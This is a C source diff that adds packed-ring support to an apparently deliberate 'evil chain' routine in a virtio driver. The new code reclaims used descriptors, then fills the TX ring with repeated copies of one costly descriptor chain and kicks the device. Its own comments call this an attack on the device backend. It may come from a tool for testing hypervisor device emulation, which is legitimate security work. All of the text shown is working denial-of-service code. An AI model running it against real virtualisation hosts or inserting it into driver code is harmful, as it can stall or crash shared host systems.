@@ -70,6 +70,62 @@ static void vdrv_evil_chain_fill(struct vring_desc *t, unsigned int first,
 }
 
 /**
+ * vdrv_evil_chain_packed() - vdrv_evil_chain()'s publishing, packed ring
+ * @d:		device
+ * @t:		indirect table written the split way, or NULL
+ * @nind:	its entries
+ * @nd:		ring descriptors of the chain
+ * @copies:	copies wanted
+ *
+ * Each copy is the staged chain at descriptor 0 written at our position
+ * (Buffer ID 0).  What the device used is skipped first, by the Buffer
+ * IDs it wrote (our own frames before the attack, then copies): the ring
+ * never holds more than its size.
+ *
+ * Return: copies added
+ */
+static int vdrv_evil_chain_packed(struct vdrv_dev *d, struct vring_desc *t,
+				  unsigned int nind, unsigned int nd,
+				  unsigned int copies)
+{
+	struct vdrv_ring *tx = &d->rings[VDRV_TX_RING];
+	unsigned int out, n = 0;
+
+	if (t)
+		vdrv_ring_packed_table(t, nind);
+	tx->p_chain[0] = (uint16_t)nd;
+	for (;;) {
+		uint16_t f = VDRV_READ_ONCE(tx->pring[tx->p_used].flags), id;
+
+		if (!!(f & 1u << VRING_PACKED_DESC_F_AVAIL) !=
+		    tx->p_used_wrap ||
+		    !!(f & 1u << VRING_PACKED_DESC_F_USED) != tx->p_used_wrap)
+			break;
+		vdrv_rmb();
+		id = VDRV_READ_ONCE(tx->pring[tx->p_used].id);
+		if (id >= tx->num || !tx->p_chain[id])
+			break;
+		tx->p_used = (uint16_t)(tx->p_used + tx->p_chain[id]);
+		if (tx->p_used >= tx->num) {
+			tx->p_used = (uint16_t)(tx->p_used - tx->num);
+			tx->p_used_wrap = !tx->p_used_wrap;
+		}
+	}
+	/* Descriptors between our used position and our next one. */
+	out = (tx->p_next + (tx->p_wrap ? 0u : tx->num) + 2u * tx->num -
+	       tx->p_used - (tx->p_used_wrap ? 0u : tx->num)) %
+	      (2u * tx->num);
+	while (n < copies && out + nd <= tx->num) {
+		vdrv_ring_packed_write(tx, 0, 0);
+		out += nd;
+		n++;
+	}
+	vdrv_ring_publish(tx);
+	vdrv_ring_kick(tx);
+	return (int)n;
+}
+
+/**
  * vdrv_evil_chain() - make TX avail entries name one costly chain
  * @d:		device, opened; its TX data path is given up by this call
  * @frame:	Ethernet frame for the first buffer; NULL: a 60-byte
@@ -141,6 +197,8 @@ int vdrv_evil_chain(struct vdrv_dev *d, const void *frame, uint32_t len,
 				     false);
 	}
 
+	if (tx->packed)
+		return vdrv_evil_chain_packed(d, t, nind, nd, copies);
 	/* What the device has not consumed yet, by its used index (never
 	 * validated here: nothing of this ring is tracked any more).
 	 */
